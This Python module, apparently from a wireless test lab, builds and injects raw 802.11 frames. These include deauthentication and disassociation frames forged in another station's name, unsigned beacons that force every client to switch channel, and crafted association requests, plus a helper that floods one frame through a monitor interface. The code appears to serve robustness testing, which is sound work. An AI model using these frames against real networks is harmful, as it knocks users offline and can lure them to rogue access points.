"""Frames that no driver would send: association requests with a chosen RSN element, farewells in somebody else's name."""

from __future__ import annotations

import struct
from collections.abc import Sequence

from lab.probe.agent import headers
from lab.probe.air.elements import Suites, write_rsn
from lab.reach import Channel

_RADIOTAP = b"\x00\x00\x08\x00\x00\x00\x00\x00"  # no field: the radio's own choices
_AUTHENTICATION, _ASSOCIATION, _DEAUTHENTICATION, _DISASSOCIATION, _BEACON = 0xB0, 0x00, 0xC0, 0xA0, 0x80
_EVERYBODY = "ff:ff:ff:ff:ff:ff"
_INTERVAL = 100  # time units between two beacons
_RATES = bytes([1, 8, 0x82, 0x84, 0x8B, 0x96, 0x0C, 0x12, 0x18, 0x24])
_ESS, _ESS_PRIVACY = 0x0001, 0x0011
_LARGEST = 1 << 10  # bytes of any of these frames
_PATIENCE = 120.0


def authentication(station: str, bssid: str) -> bytes:
    """The first step of joining: open system (IEEE 802.11-2020, 12.3.3.2)."""
    return _frame(_AUTHENTICATION, bssid, station, bssid, struct.pack("<HHH", 0, 1, 0))


def association(station: str, bssid: str, ssid: str, asked: Suites) -> bytes:
    """An association request whose RSN element names these suites."""
    name = ssid.encode()
    body = struct.pack("<HH", _ESS_PRIVACY, 10) + bytes([0, len(name)]) + name + _RATES
    body += write_rsn(asked)
    return _frame(_ASSOCIATION, bssid, station, bssid, body)


def deauthentication(receiver: str, transmitter: str, bssid: str, reason: int) -> bytes:
    """A farewell in clear, in whoever's name."""
    return _frame(_DEAUTHENTICATION, receiver, transmitter, bssid, struct.pack("<H", reason))


def disassociation(receiver: str, transmitter: str, bssid: str, reason: int) -> bytes:
    """The same for the association alone."""
    return _frame(_DISASSOCIATION, receiver, transmitter, bssid, struct.pack("<H", reason))


def channel_switch(bssid: str, ssid: str, suites: Suites | None, old: int, new: int, mark: bytes) -> bytes:
    """A beacon without a signature by which everybody is to leave for another channel at once (9.4.2.18).

    `mark`: bytes of a vendor's element that make it known from the true ones.
    """
    name = ssid.encode()
    body = bytes(8) + struct.pack("<HH", _INTERVAL, _ESS if suites is None else _ESS_PRIVACY)
    body += bytes([0, len(name)]) + name + _RATES + bytes([3, 1, old]) + bytes([37, 3, 1, new, 1])
    body += b"" if suites is None else write_rsn(suites)
    return _frame(_BEACON, _EVERYBODY, bssid, bssid, body + bytes([221, len(mark)]) + mark)


def send(channel: Channel, interface: str, frames: Sequence[bytes]) -> None:
    """Send frames by a monitor interface of that host, in order. LabError if the host won't."""
    for frame in frames:
        argv = ["socat", "-u", "-b", str(_LARGEST), "STDIN", f"INTERFACE:{interface}"]
        channel.run(argv, stdin=frame, timeout=_PATIENCE).check()


def flood(channel: Channel, interface: str, frame: bytes, times: int) -> None:
    """Send the same frame many times, as fast as the host can. LabError if it won't."""
    # one write for each, out of a file: a pipe would give socat pieces; made here, as a program there takes a guest long to start
    line = 'f=$(mktemp) && cat >"$f" && socat -u -b {size} "OPEN:$f" INTERFACE:{interface}; code=$?; rm -f "$f"; exit $code'
    text = line.format(size=len(frame), interface=interface)
    channel.run(text, stdin=frame * times, timeout=_PATIENCE).check()


def _frame(kind: int, receiver: str, transmitter: str, bssid: str, body: bytes) -> bytes:
    header = (
        struct.pack("<BBH", kind, 0, 0)
        + headers.card(receiver)
        + headers.card(transmitter)
        + headers.card(bssid)
        + b"\x00\x00"
    )
    return _RADIOTAP + header + body
